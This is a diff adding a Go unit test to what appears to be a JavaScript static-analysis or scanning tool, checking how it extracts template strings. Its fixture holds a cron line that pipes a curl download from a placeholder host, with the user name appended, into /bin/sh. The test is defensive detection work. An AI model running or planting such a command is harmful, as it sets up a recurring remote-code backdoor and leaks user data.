@@ -2062,3 +2062,15 @@ func TestSplitNames(t *testing.T) {
 		t.Errorf("split names (-want +got):\n%s", diff)
 	}
 }
+
+// A template piping a download into a shell is kept whole, its run-time
+// parts as holes; other templates keep only their constant parts.
+func TestPipedTemplateShape(t *testing.T) {
+	f := Analyze("x.js", []byte("const h = 'c.example.invalid'; const job = `*/5 * * * * curl -s https://${h}/x?u=${user} | /bin/sh`; const msg = `hello ${user}, welcome to ${h}`"), DefaultLimits())
+	if !hasString(f, "*/5 * * * * curl -s https://c.example.invalid/x?u="+Hole+" | /bin/sh") {
+		t.Errorf("piped template not kept whole: %+v", f.Strings)
+	}
+	if hasString(f, "hello "+Hole+", welcome to c.example.invalid") {
+		t.Errorf("a message template kept whole: %+v", f.Strings)
+	}
+}
